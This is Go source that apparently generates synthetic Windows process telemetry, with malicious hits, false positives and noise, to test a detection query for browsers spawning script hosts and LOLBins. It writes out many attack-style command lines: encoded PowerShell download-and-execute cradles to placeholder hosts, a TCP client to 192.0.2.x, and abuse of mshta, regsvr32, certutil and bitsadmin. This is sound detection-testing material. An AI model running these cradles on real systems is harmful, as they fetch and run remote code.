package demo

import (
	"fmt"
	"strings"
)

// hitSpec describes one category of seed-query hits.
type hitSpec struct {
	cat, level string
	n          int
	about      string
	browsers   []string // parents to rotate through; nil = all eight, then weighted
	build      func(g *gen, h *host, k int) (image, cmd string)
	before     func(g *gen, h *host, browser *proc, ts int64) // events just before the hit
	after      func(g *gen, h *host, browser, child *proc)    // events that follow the hit
}

// encPayload is a PowerShell script for -EncodedCommand. Its text is hidden
// by the encoding, so the query's cradle regex cannot see it.
func (g *gen) encPayload(k int) string {
	n := g.num(1000, 99999)
	var s string
	switch k % 4 {
	case 0:
		s = fmt.Sprintf(`$u='https://docs-share.example/d/%d';$p="$env:TEMP\%d.exe";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p`, n, n)
	case 1:
		s = fmt.Sprintf(`Start-Sleep -s 3;IEX([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('https://cdn-update.example.org/s/%d')))`, n)
	case 2:
		s = fmt.Sprintf(`$c=New-Object Net.Sockets.TCPClient('192.0.2.%d',443);$s=$c.GetStream()`, 1+n%254)
	default:
		s = fmt.Sprintf(`Add-Type -AssemblyName System.Windows.Forms;[System.Windows.Forms.MessageBox]::Show('The document could not be opened (0x%x)')`, n)
	}
	return psEnc(s)
}

func q(p string) string { return `"` + p + `"` }

var hitSpecs = []hitSpec{
	// ---- critical: encoded PowerShell and a download cradle ----
	{cat: "critical_ps_encoded_cradle", level: "critical", n: 18,
		about: "PowerShell/pwsh with -enc/-e/-ec/-EncodedCommand and a plain-text download cradle",
		build: func(g *gen, h *host, k int) (string, string) {
			n := g.num(1000, 99999)
			switch k % 4 {
			case 0:
				return psPath, q(psPath) + fmt.Sprintf(` -NoProfile -WindowStyle Hidden -Command "$s=(New-Object Net.WebClient).DownloadString('https://cdn-update.example.org/p/%d'); powershell -enc $s"`, n)
			case 1:
				return psPath, fmt.Sprintf(`powershell.exe -nop -w hidden -e %s; iex(New-Object Net.WebClient).DownloadString('https://docs-share.example/s/%d')`, g.encPayload(k), n)
			case 2:
				return pwshPath, q(pwshPath) + fmt.Sprintf(` -NoLogo -ec %s -Command "Invoke-WebRequest https://files-share.example/%d.zip -OutFile $env:TEMP\%d.zip"`, g.encPayload(k), n, n)
			default:
				return psPath, fmt.Sprintf(`powershell.exe -ExecutionPolicy Bypass -c "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.%d/a'); powershell.exe -EncodedCommand %s"`, 1+n%254, g.encPayload(k))
			}
		}},
	{cat: "critical_cmd_encoded_cradle", level: "critical", n: 6,
		about: "cmd.exe chaining an encoded PowerShell and an IEX/DownloadString cradle",
		build: func(g *gen, h *host, k int) (string, string) {
			return cmdPath, fmt.Sprintf(`cmd.exe /c "powershell -e %s & powershell -c iex(New-Object Net.WebClient).DownloadString('https://cdn-update.example.org/c/%d')"`, g.encPayload(k), g.num(1000, 99999))
		}},

	// ---- high ----
	{cat: "high_encoded_powershell", level: "high", n: 30,
		about: "encoded PowerShell without a visible cradle (-EncodedCommand, -enc, -e, -ec; one in five via cmd.exe)",
		build: func(g *gen, h *host, k int) (string, string) {
			e := g.encPayload(k)
			switch k % 5 {
			case 0:
				return psPath, `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ` + e
			case 1:
				return psPath, `powershell -enc ` + e
			case 2:
				return psPath, q(psPath) + ` -e ` + e
			case 3:
				return pwshPath, `pwsh.exe -ec ` + e
			default:
				return cmdPath, `C:\Windows\system32\cmd.exe /c powershell.exe -nop -w hidden -enc ` + e
			}
		}},
	{cat: "high_download_cradle", level: "high", n: 28,
		about: "download cradles without encoding (Invoke-WebRequest, Net.WebClient DownloadFile, Start-BitsTransfer, iex(, Invoke-Expression)",
		build: func(g *gen, h *host, k int) (string, string) {
			n := g.num(1000, 99999)
			switch k % 6 {
			case 0:
				return psPath, fmt.Sprintf(`powershell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri 'https://files-share.example/inv/%d.zip' -OutFile $env:USERPROFILE\Downloads\%d.zip"`, n, n)
			case 1:
				return psPath, fmt.Sprintf(`powershell -nop -c "(New-Object System.Net.WebClient).DownloadFile('https://docs-share.example/f/%d.exe','%s\%d.exe')"`, n, tempDir(h), n)
			case 2:
				return psPath, fmt.Sprintf(`powershell.exe -c "Start-BitsTransfer -Source https://files-share.example/get/%d -Destination $env:TEMP\%d.exe; Start-Process $env:TEMP\%d.exe"`, n, n, n)
			case 3:
				return psPath, fmt.Sprintf(`powershell.exe -w hidden -c "iex(irm https://cdn-update.example.org/r/%d)"`, n)
			case 4:
				return pwshPath, fmt.Sprintf(`pwsh.exe -NoProfile -Command "Invoke-Expression (Invoke-RestMethod https://cdn-update.example.org/m/%d)"`, n)
			default:
				return cmdPath, fmt.Sprintf(`cmd.exe /c powershell -c "IEX (New-Object Net.WebClient).DownloadString('https://docs-share.example/c/%d')"`, n)
			}
		}},
	{cat: "high_lolbin", level: "high", n: 40,
		about: "LOLBins: mshta URL, rundll32 DLL, regsvr32 scrobj, certutil urlcache/decode, MSBuild, InstallUtil, RegAsm, RegSvcs",
		build: func(g *gen, h *host, k int) (string, string) {
			n := g.num(1000, 99999)
			t := tempDir(h)
			switch k % 8 {
			case 0:
				return sys32 + "mshta.exe", q(sys32+"mshta.exe") + fmt.Sprintf(` https://docs-share.example/view/%d.hta`, n)
			case 1:
				return sys32 + "rundll32.exe", q(sys32+"rundll32.exe") + fmt.Sprintf(` %s\inv_%d.dll,DllRegisterServer`, t, n)
			case 2:
				return sys32 + "regsvr32.exe", q(sys32+"regsvr32.exe") + fmt.Sprintf(` /s /n /u /i:https://cdn-update.example.org/%d.sct scrobj.dll`, n)
			case 3:
				if k%16 == 3 {
					return sys32 + "certutil.exe", fmt.Sprintf(`certutil.exe -urlcache -split -f https://files-share.example/%d.txt %s\%d.exe`, n, t, n)
				}
				return sys32 + "certutil.exe", fmt.Sprintf(`certutil -decode %s\Remittance_%d.txt %s\%d.dll`, downloads(h), n, t, n)
			case 4:
				return net4 + "MSBuild.exe", q(net4+"MSBuild.exe") + fmt.Sprintf(` %s\Project_%d.csproj`, downloads(h), n)
			case 5:
				return net4 + "InstallUtil.exe", q(net4+"InstallUtil.exe") + fmt.Sprintf(` /logfile= /LogToConsole=false /U %s\%d.dll`, t, n)
			case 6:
				return net4 + "RegAsm.exe", q(net4+"RegAsm.exe") + fmt.Sprintf(` /U %s\%d.dll`, t, n)
			default:
				return net4 + "RegSvcs.exe", q(net4+"RegSvcs.exe") + fmt.Sprintf(` %s\%d.dll`, t, n)
			}
		}},
	{cat: "high_atomic4_mshta_hta", level: "high", n: 8,
		about: "atomic test 4: the browser writes %TEMP%\\link_test.hta and mshta runs it",
		build: func(g *gen, h *host, k int) (string, string) {
			return sys32 + "mshta.exe", q(sys32+"mshta.exe") + " " + q(tempDir(h)+`\link_test.hta`)
		},
		before: func(g *gen, h *host, b *proc, ts int64) {
			g.fileWritten("other_file_written", "NewScriptWritten", h, b, tempDir(h)+`\link_test.hta`, ts-int64(g.num(1500, 20000)))
		}},
	{cat: "high_fp_onboarding_portal", level: "high", n: 12,
		about:    "false positive: onboarding portal starting a ClickOnce app (rundll32 dfshim) or fetching a setup script with Invoke-WebRequest",
		browsers: []string{"msedge", "chrome", "msedge", "iexplore"},
		build: func(g *gen, h *host, k int) (string, string) {
			if k%2 == 0 {
				return sys32 + "rundll32.exe", `"C:\Windows\System32\rundll32.exe" dfshim.dll,ShOpenVerbApplication https://onboarding.corp.example/deploy/NewHireSetup.application`
			}
			return psPath, `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri https://onboarding.corp.example/deploy/Install-Baseline.ps1 -OutFile $env:TEMP\Install-Baseline.ps1; & $env:TEMP\Install-Baseline.ps1 -Department ` + strings.Split(h.name, "-")[1] + `"`
		}},
	{cat: "high_fp_certutil_crl", level: "high", n: 14,
		about:    "false positive: certutil CRL/OCSP checks triggered around browser TLS validation",
		browsers: []string{"iexplore", "msedge", "chrome", "msedge"},
		build: func(g *gen, h *host, k int) (string, string) {
			switch k % 3 {
			case 0:
				return sys32 + "certutil.exe", q(sys32+"certutil.exe") + fmt.Sprintf(` -verify -urlfetch "%s\site_%d.cer"`, tempDir(h), g.num(100, 999))
			case 1:
				return sys32 + "certutil.exe", fmt.Sprintf(`certutil.exe -URLCache -f http://crl.pki.corp.example/CorpIssuingCA%d.crl`, 1+k%2)
			default:
				return sys32 + "certutil.exe", `certutil.exe -url http://ocsp.pki.corp.example/ocsp`
			}
		}},
	{cat: "high_fp_phishsim_mshta", level: "high", n: 4,
		about: "false positive: phishing-awareness simulation landing page opened with mshta",
		build: func(g *gen, h *host, k int) (string, string) {
			return sys32 + "mshta.exe", fmt.Sprintf(`mshta.exe https://phishsim.training.example/landing/%s.hta`, g.hex(10))
		}},

	// ---- medium ----
	{cat: "medium_script_engine", level: "medium", n: 18,
		about: "wscript/cscript running a downloaded .vbs/.js/.wsf",
		build: func(g *gen, h *host, k int) (string, string) {
			n := g.num(1000, 99999)
			switch k % 4 {
			case 0:
				return sys32 + "wscript.exe", `"C:\Windows\System32\WScript.exe" ` + q(fmt.Sprintf(`%s\Invoice_%d.vbs`, downloads(h), n))
			case 1:
				return sys32 + "wscript.exe", `wscript.exe ` + q(fmt.Sprintf(`%s\Payment_Details_%d.js`, downloads(h), n))
			case 2:
				return sys32 + "cscript.exe", `cscript.exe //nologo //E:vbscript ` + q(fmt.Sprintf(`%s\upd_%d.txt`, tempDir(h), n))
			default:
				return sys32 + "wscript.exe", q(sys32+"wscript.exe") + " " + q(fmt.Sprintf(`%s\Scan_%d.wsf`, downloads(h), n))
			}
		}},
	{cat: "medium_atomic3_wscript_vbs", level: "medium", n: 8,
		about: "atomic test 3: the browser writes %TEMP%\\link_payload.vbs and wscript runs it",
		build: func(g *gen, h *host, k int) (string, string) {
			return sys32 + "wscript.exe", `"C:\Windows\System32\WScript.exe" ` + q(tempDir(h)+`\link_payload.vbs`)
		},
		before: func(g *gen, h *host, b *proc, ts int64) {
			g.fileWritten("other_file_written", "NewScriptWritten", h, b, tempDir(h)+`\link_payload.vbs`, ts-int64(g.num(1500, 20000)))
		}},
	{cat: "medium_fp_phishsim_script", level: "medium", n: 20,
		about: "false positive: phishing-awareness simulation running wscript/cscript click trackers",
		build: func(g *gen, h *host, k int) (string, string) {
			tok := g.hex(10)
			if k%2 == 0 {
				return sys32 + "wscript.exe", q(sys32+"wscript.exe") + " " + q(fmt.Sprintf(`%s\PhishSim\Q1-2026\click_%s.vbs`, tempDir(h), tok)) + ` //B`
			}
			return sys32 + "cscript.exe", `cscript.exe //nologo ` + q(fmt.Sprintf(`%s\PhishSim\report_%s.js`, tempDir(h), tok)) + ` /campaign:FY26-Q1-Payroll`
		}},
	{cat: "medium_default_cmd", level: "medium", n: 24,
		about: "default branch: cmd.exe with a plain command line",
		build: func(g *gen, h *host, k int) (string, string) {
			n := g.num(1000, 99999)
			switch k % 6 {
			case 0:
				return cmdPath, fmt.Sprintf(`cmd.exe /c start "" "%s\Statement_%d.pdf"`, downloads(h), n)
			case 1:
				return cmdPath, q(cmdPath) + fmt.Sprintf(` /c "%s\Setup_%d.bat"`, downloads(h), n)
			case 2:
				return cmdPath, `cmd.exe /c whoami /all > %TEMP%\w.txt`
			case 3:
				return cmdPath, `cmd.exe`
			case 4:
				return cmdPath, fmt.Sprintf(`C:\Windows\system32\cmd.exe /d /c "%s\Update_%d.cmd"`, downloads(h), n)
			default:
				return cmdPath, fmt.Sprintf(`cmd.exe /c ping -n 3 127.0.0.1 && start %%TEMP%%\a%d.exe`, n)
			}
		}},
	{cat: "medium_default_other", level: "medium", n: 21,
		about: "default branch: bitsadmin, msiexec, wmic, csc, odbcconf, forfiles, pcalua",
		build: func(g *gen, h *host, k int) (string, string) {
			n := g.num(1000, 99999)
			t := tempDir(h)
			switch k % 7 {
			case 0:
				return sys32 + "bitsadmin.exe", fmt.Sprintf(`bitsadmin /transfer dl_%d /download /priority normal https://files-share.example/get/%d %s\%d.exe`, n, n, t, n)
			case 1:
				if k%14 == 1 {
					return sys32 + "msiexec.exe", fmt.Sprintf(`msiexec.exe /q /i https://files-share.example/pkg/%d.msi`, n)
				}
				return sys32 + "msiexec.exe", fmt.Sprintf(`"C:\Windows\System32\msiexec.exe" /i "%s\RemoteSupport_%d.msi" /qn`, downloads(h), n)
			case 2:
				return sys32 + `wbem\WMIC.exe`, fmt.Sprintf(`wmic process call create "%s\svc_%d.exe"`, t, n)
			case 3:
				return net4 + "csc.exe", q(net4+"csc.exe") + fmt.Sprintf(` /noconfig /fullpaths @"%s\%s.cmdline"`, t, g.hex(8))
			case 4:
				return sys32 + "odbcconf.exe", fmt.Sprintf(`odbcconf.exe /a {REGSVR %s\odbc_%d.dll}`, t, n)
			case 5:
				return sys32 + "forfiles.exe", fmt.Sprintf(`forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c %s\upd_%d.exe"`, t, n)
			default:
				return sys32 + "pcalua.exe", fmt.Sprintf(`pcalua.exe -a %s\setup_%d.exe`, downloads(h), n)
			}
		}},
	{cat: "medium_atomic1_ps_uri_handler", level: "medium", n: 8,
		about: "atomic test 1: URI-handler PowerShell -ExecutionPolicy Bypass -WindowStyle Hidden writing %TEMP%\\malicious-link-test.txt",
		build: func(g *gen, h *host, k int) (string, string) {
			return psPath, q(psPath) + ` -ExecutionPolicy Bypass -WindowStyle Hidden -Command "Set-Content -Path $env:TEMP\malicious-link-test.txt -Value 'T1204.001 browser URI handler test'"`
		},
		after: func(g *gen, h *host, b, c *proc) {
			g.fileWritten("other_file_written", "GenericFileWritten", h, c, tempDir(h)+`\malicious-link-test.txt`, c.ts+int64(g.num(200, 1500)))
		}},
	{cat: "medium_atomic2_invoice_drop", level: "medium", n: 6,
		about: "atomic test 2: cmd.exe drops Downloads\\Invoice_March2026.exe, which the browser then opens",
		build: func(g *gen, h *host, k int) (string, string) {
			return cmdPath, `cmd.exe /c copy /Y C:\Windows\System32\calc.exe ` + q(downloads(h)+`\Invoice_March2026.exe`)
		},
		after: func(g *gen, h *host, b, c *proc) {
			exe := downloads(h) + `\Invoice_March2026.exe`
			g.fileWritten("other_file_written", "NewExecutableWritten", h, c, exe, c.ts+int64(g.num(100, 900)))
			g.pr2("noise_browser_opens_download", h, b, exe, q(exe)+" ", c.ts+int64(g.num(5000, 60000)), opt{})
		}},
	{cat: "medium_atomic5_iso_shell_application", level: "medium", n: 6,
		about: "atomic test 5: PowerShell with Shell.Application mounting a downloaded ISO and running E:\\payload.exe",
		build: func(g *gen, h *host, k int) (string, string) {
			return psPath, `powershell.exe -NoProfile -Command "$iso='` + downloads(h) + `\Invoice_March2026.iso'; Mount-DiskImage -ImagePath $iso; $sh=New-Object -ComObject Shell.Application; $sh.ShellExecute('E:\payload.exe')"`
		},
		before: func(g *gen, h *host, b *proc, ts int64) {
			g.fileWritten("other_file_written", "GenericFileWritten", h, b, downloads(h)+`\Invoice_March2026.iso`, ts-int64(g.num(3000, 60000)))
		},
		after: func(g *gen, h *host, b, c *proc) {
			g.pr2("noise_iso_payload", h, c, `E:\payload.exe`, `"E:\payload.exe" `, c.ts+int64(g.num(800, 4000)), opt{parentCmd: 1})
		}},
	{cat: "medium_fp_onboarding_clickonce", level: "medium", n: 12,
		about:    "false positive: onboarding ClickOnce app's PowerShell step (-ExecutionPolicy Bypass -File, no cradle)",
		browsers: []string{"msedge", "chrome", "msedge", "iexplore"},
		build: func(g *gen, h *host, k int) (string, string) {
			dir := fmt.Sprintf(`%s\AppData\Local\Apps\2.0\%s.%s\%s.%s\newh..tion_%s_0001.0000_%s`, userDir(h),
				strings.ToUpper(g.hex(8)), strings.ToUpper(g.hex(3)), strings.ToUpper(g.hex(8)), strings.ToUpper(g.hex(3)), g.hex(16), g.hex(16))
			return psPath, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ` + q(dir+`\Scripts\Register-Device.ps1`) + ` -Silent`
		}},
}

type noiseSpec struct {
	name, about string
}

// categoryTable lists all categories in a fixed order; counts are filled in
// from the generated records.
var categoryTable = func() []Category {
	var cs []Category
	for _, s := range hitSpecs {
		cs = append(cs, Category{Name: s.cat, Level: s.level, About: s.about})
	}
	for _, n := range []noiseSpec{
		{"noise_session_explorer", "userinit.exe starting explorer.exe after logon"},
		{"noise_browser_launch", "explorer.exe starting a browser"},
		{"noise_browser_to_browser", "browser spawning its own helpers (renderer, GPU, utility, crashpad, Firefox content, IE tabs)"},
		{"noise_browser_to_benign", "browser spawning notepad, calc, Acrobat, Word, Zoom, helpers..."},
		{"noise_browser_opens_download", "browser opening Downloads\\Invoice_March2026.exe (not on the query's child list)"},
		{"noise_iso_payload", "E:\\payload.exe from the mounted ISO, child of PowerShell"},
		{"noise_explorer_shell", "explorer.exe starting PowerShell (some -enc), cmd, wscript, mshta"},
		{"noise_system", "system and management processes, including LOLBins under non-browser parents"},
		{"noise_parent_bak", "parent chrome.exe.bak spawning encoded PowerShell"},
		{"noise_child_bak", "browser spawning powershell.exe.bak"},
		{"noise_child_ise", "browser spawning powershell_ise.exe"},
		{"noise_no_commandline", "browser spawning a listed child, but the event has no CommandLine field"},
		{"noise_synthetic_pr2", "SyntheticProcessRollup2 with a browser parent and a listed child"},
		{"noise_non_windows", "macOS and Linux process events (Google Chrome helpers, osascript, sh, curl)"},
		{"other_file_written", "NewExecutableWritten, NewScriptWritten, GenericFileWritten, PdfFileWritten, OoxmlFileWritten, ZipFileWritten"},
		{"other_dns_request", "DnsRequest from browsers, hits and system processes"},
		{"other_network_connect", "NetworkConnectIP4 from browsers, hits and system processes"},
		{"other_user_logon", "UserLogon (interactive and unlock)"},
		{"other_end_of_process", "EndOfProcess"},
	} {
		cs = append(cs, Category{Name: n.name, About: n.about})
	}
	return cs
}()

// ---- noise -----------------------------------------------------------------

func (g *gen) randomWS() *host { return g.ws[g.r.IntN(len(g.ws))] }

func (g *gen) randomBrowser(h *host) *proc { return h.browsers[g.r.IntN(len(h.browsers))] }

func (g *gen) helperCmd(b *proc) (image, cmd string) {
	key := strings.TrimSuffix(strings.ToLower(b.name), ".exe")
	switch key {
	case "firefox":
		pid := b.rpid
		return b.image, fmt.Sprintf(`"%s" -contentproc --channel="%s.%d.%d\%d" -childID %d -isForBrowser -prefsHandle %d:%d -prefMapHandle %d:%d -parentBuildID 20260224093512 -appDir "C:\Program Files\Mozilla Firefox\browser" - %s "\\.\pipe\gecko-crash-server-pipe.%s" %s`,
			b.image, pid, g.num(0, 40), g.num(1, 9), g.num(100000000, 999999999), g.num(1, 60), g.num(2000, 5000), g.num(20000, 40000), g.num(2000, 5000), g.num(200000, 260000), pid, pid, g.pick([]string{"tab", "tab", "gpu", "utility", "socket", "rdd"}))
	case "iexplore":
		img := `C:\Program Files (x86)\Internet Explorer\IEXPLORE.EXE`
		return img, fmt.Sprintf(`"%s" SCODEF:%s CREDAT:%d /prefetch:2`, img, b.rpid, g.num(9000, 400000))
	}
	handle := fmt.Sprintf("--field-trial-handle=%d,i,%d,%d,262144", g.num(1800, 2400), g.u64(), g.u64())
	switch g.r.IntN(6) {
	case 0:
		return b.image, fmt.Sprintf(`"%s" --type=gpu-process --no-pre-read-main-dll --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=%d %s /prefetch:2`, b.image, g.num(1800, 2400), handle)
	case 1:
		return b.image, fmt.Sprintf(`"%s" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%d %s /prefetch:3`, b.image, g.num(1800, 2400), handle)
	case 2:
		return b.image, fmt.Sprintf(`"%s" --type=crashpad-handler "--user-data-dir=%s\AppData\Local\%s\User Data" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler --database=%s\AppData\Local\%s\User Data\Crashpad`, b.image, userDir(b.h), key, userDir(b.h), key)
	}
	return b.image, fmt.Sprintf(`"%s" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%d --time-ticks-at-unix-epoch=-%d --launch-time-ticks=%d --mojo-platform-channel-handle=%d %s /prefetch:1`,
		b.image, g.num(5, 400), g.r.Int64N(1_700_000_000_000_000), g.r.Int64N(900_000_000_000), g.num(1800, 9000), handle)
}

func (g *gen) u64() uint64 { return g.r.Uint64() }

func (g *gen) noise() {
	// browser -> its own helpers
	for k := 0; k < 760; k++ {
		h := g.randomWS()
		b := g.randomBrowser(h)
		img, cmd := g.helperCmd(b)
		o := opt{}
		if g.r.IntN(100) < 8 {
			o.parentName = caseVariant(b.name, 1+g.r.IntN(2))
		}
		g.pr2("noise_browser_to_browser", h, b, img, cmd, g.workTS(), o)
	}

	// browser -> benign programs
	for k := 0; k < 80; k++ {
		h := g.randomWS()
		b := g.randomBrowser(h)
		n := g.num(1000, 99999)
		var img, cmd string
		switch k % 10 {
		case 0:
			img, cmd = sys32+"notepad.exe", fmt.Sprintf(`"C:\Windows\system32\NOTEPAD.EXE" %s\readme_%d.txt`, downloads(h), n)
		case 1:
			img, cmd = sys32+"calc.exe", q(sys32+"calc.exe")+" "
		case 2:
			img, cmd = sys32+"SnippingTool.exe", q(sys32+"SnippingTool.exe")+" "
		case 3:
			img = `C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe`
			cmd = q(img) + " " + q(fmt.Sprintf(`%s\Statement_%d.pdf`, downloads(h), n))
		case 4:
			img = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
			cmd = q(img) + " /n " + q(fmt.Sprintf(`%s\Q1_Report_%d.docx`, downloads(h), n))
		case 5:
			img = `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`
			cmd = q(img) + " " + q(fmt.Sprintf(`%s\budget_%d.xlsx`, downloads(h), n))
		case 6:
			img = userDir(h) + `\AppData\Roaming\Zoom\bin\Zoom.exe`
			cmd = q(img) + fmt.Sprintf(` "--url=zoommtg://zoom.us/join?action=join&confno=%d"`, g.num(100000000, 999999999))
		case 7:
			img, cmd = sys32+"OpenWith.exe", q(sys32+"OpenWith.exe")+" -Embedding"
		case 8:
			img = `C:\Program Files (x86)\Microsoft\Edge\Application\131.0.2903.86\identity_helper.exe`
			cmd = q(img) + fmt.Sprintf(` --type=utility --utility-sub-type=winrt_app_id.mojom.WinrtAppIdService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%d /prefetch:14`, g.num(4000, 9000))
		default:
			img, cmd = sys32+"mspaint.exe", q(sys32+"mspaint.exe")+" "+q(fmt.Sprintf(`%s\scan_%d.png`, downloads(h), n))
		}
		g.pr2("noise_browser_to_benign", h, b, img, cmd, g.workTS(), opt{})
	}

	// explorer -> shells (user double-clicks, admins)
	for k := 0; k < 60; k++ {
		h := g.randomWS()
		n := g.num(1000, 99999)
		var img, cmd string
		switch k % 6 {
		case 0:
			img, cmd = psPath, q(psPath)+" "
		case 1:
			img, cmd = psPath, `powershell.exe -NoProfile -EncodedCommand `+psEnc(`Get-Printer | Where-Object Shared | Select-Object Name,PortName`)
		case 2:
			img, cmd = cmdPath, `"C:\Windows\system32\cmd.exe" `
		case 3:
			img, cmd = sys32+"wscript.exe", `"C:\Windows\System32\WScript.exe" `+q(fmt.Sprintf(`%s\Invoice_%d.vbs`, downloads(h), n))
		case 4:
			img, cmd = `C:\Windows\SysWOW64\mshta.exe`, `"C:\Windows\SysWOW64\mshta.exe" `+q(userDir(h)+`\Desktop\help.hta`)+` {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`
		default:
			img, cmd = psPath, `powershell.exe -NoExit -Command "IEX (New-Object Net.WebClient).DownloadString('https://intranet.corp.example/tools/profile.ps1')"`
		}
		g.pr2("noise_explorer_shell", h, h.explorer, img, cmd, g.workTS(), opt{})
	}

	g.systemNoise()

	// look-alikes and events the query must drop
	for k := 0; k < 4; k++ {
		h := g.randomWS()
		g.pr2("noise_parent_bak", h, nil, psPath, `powershell.exe -nop -w hidden -enc `+g.encPayload(k), g.workTS(), opt{parentName: "chrome.exe.bak"})
	}
	for k := 0; k < 4; k++ {
		h := g.hostWith("chrome")
		img := tempDir(h) + `\powershell.exe.bak`
		g.pr2("noise_child_bak", h, h.byKey["chrome"], img, q(img)+` -enc `+g.encPayload(k), g.workTS(), opt{fileName: 1 + k%2})
	}
	for k := 0; k < 4; k++ {
		h := g.randomWS()
		img := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe`
		g.pr2("noise_child_ise", h, g.randomBrowser(h), img, q(img)+" "+q(fmt.Sprintf(`%s\deploy_%d.ps1`, downloads(h), g.num(100, 999))), g.workTS(), opt{fileName: 1 + k%2})
	}
	noCmd := []string{psPath, cmdPath, sys32 + "mshta.exe", sys32 + "rundll32.exe", sys32 + "wscript.exe", sys32 + "certutil.exe", pwshPath, sys32 + "regsvr32.exe"}
	for k, img := range noCmd {
		key := browserDefs[k%len(browserDefs)].key
		h := g.hostWith(key)
		g.pr2("noise_no_commandline", h, h.byKey[key], img, "", g.workTS(), opt{noCmd: true, fileName: 1 + k%2})
	}
	synth := []struct{ img, cmd string }{
		{psPath, `powershell.exe -nop -w hidden -enc %ENC%`},
		{psPath, `powershell -c "IEX(New-Object Net.WebClient).DownloadString('https://cdn-update.example.org/x')"`},
		{sys32 + "mshta.exe", `mshta.exe https://docs-share.example/view/1.hta`},
		{cmdPath, `cmd.exe /c start "" "%USERPROFILE%\Downloads\doc.pdf"`},
		{sys32 + "wscript.exe", `wscript.exe "%TEMP%\link_payload.vbs"`},
		{sys32 + "rundll32.exe", `rundll32.exe %TEMP%\a.dll,DllRegisterServer`},
		{sys32 + "certutil.exe", `certutil.exe -urlcache -split -f https://files-share.example/a.txt`},
		{pwshPath, `pwsh.exe -ec %ENC%`},
	}
	for k, s := range synth {
		key := browserDefs[(k+3)%len(browserDefs)].key
		h := g.hostWith(key)
		cmd := strings.ReplaceAll(s.cmd, "%ENC%", g.encPayload(k))
		g.pr2("noise_synthetic_pr2", h, h.byKey[key], s.img, cmd, g.workTS(), opt{simple: "SyntheticProcessRollup2"})
	}
	g.nonWindows()
}

func (g *gen) systemNoise() {
	type tmpl struct {
		parent, image, cmd string
		system             bool
	}
	intune := `C:\Program Files (x86)\Microsoft Intune Management Extension\`
	ts := []tmpl{
		{sys32 + "services.exe", sys32 + "svchost.exe", `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, true},
		{sys32 + "svchost.exe", sys32 + "backgroundTaskHost.exe", `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`, false},
		{sys32 + "svchost.exe", sys32 + "RuntimeBroker.exe", `C:\Windows\System32\RuntimeBroker.exe -Embedding`, false},
		{sys32 + "SearchIndexer.exe", sys32 + "SearchProtocolHost.exe", `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" `, true},
		{cmdPath, sys32 + "conhost.exe", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, false},
		{sys32 + "svchost.exe", sys32 + "taskhostw.exe", `taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly`, false},
		{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0\MsMpEng.exe`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0\MpCmdRun.exe`, `"C:\ProgramData\Microsoft\Windows Defender\platform\4.18.25010.11-0\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance`, true},
		{`C:\Windows\explorer.exe`, `C:\Program Files\Microsoft OneDrive\OneDrive.exe`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, false},
		{intune + "AgentExecutor.exe", psPath, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -executionPolicy bypass -file "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\%GUID%_1.ps1"`, true},
		{sys32 + "svchost.exe", cmdPath, `C:\Windows\system32\cmd.exe /c "C:\ProgramData\Corp\Scripts\inventory.cmd"`, true},
		{sys32 + "svchost.exe", sys32 + "rundll32.exe", `C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`, true},
		{sys32 + "services.exe", sys32 + "msiexec.exe", `C:\Windows\system32\msiexec.exe /V`, true},
		{sys32 + "msiexec.exe", sys32 + "regsvr32.exe", `"C:\Windows\System32\regsvr32.exe" /s "C:\Program Files\Common Files\microsoft shared\ink\tiptsf.dll"`, true},
		{sys32 + "svchost.exe", sys32 + `wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, true},
		{sys32 + "svchost.exe", sys32 + "dllhost.exe", `C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}`, false},
		{sys32 + "svchost.exe", `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler`, true},
